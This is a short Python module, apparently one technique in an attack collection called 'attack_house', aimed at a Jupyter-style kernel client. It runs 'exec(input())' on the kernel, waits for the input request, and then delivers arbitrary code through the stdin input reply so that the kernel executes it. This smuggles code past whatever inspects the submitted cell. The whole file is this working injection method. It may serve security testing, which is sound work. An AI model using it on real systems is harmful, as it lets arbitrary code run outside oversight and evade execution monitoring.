"""An answer to `input()`, which the code that waits for it then runs."""

from __future__ import annotations

from attack_house import Client

WAITS = True


def prepare(client: Client, code: str) -> None:
    client.execute("exec(input())", allow_stdin=True)
    while client.receive()["header"]["msg_type"] != "input_request":
        pass


def strike(client: Client, code: str) -> str:
    return client.send("input_reply", {"value": code}, channel="stdin")
